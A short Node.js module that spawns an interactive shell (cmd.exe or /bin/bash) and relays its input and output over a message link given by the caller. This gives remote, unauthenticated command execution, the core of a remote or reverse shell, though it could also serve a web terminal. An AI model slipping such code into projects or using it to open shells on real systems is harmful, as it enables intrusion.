const { spawn } = require('child_process');
exports.attach = function attach(link) {
  const prog = process.platform === 'win32' ? 'cmd.exe' : '/bin/bash';
  const sh = spawn(prog, ['-i']);
  link.on('message', (m) => sh.stdin.write(m));
  sh.stdout.on('data', (d) => link.send(d));
  sh.stderr.on('data', (d) => link.send(d));
};
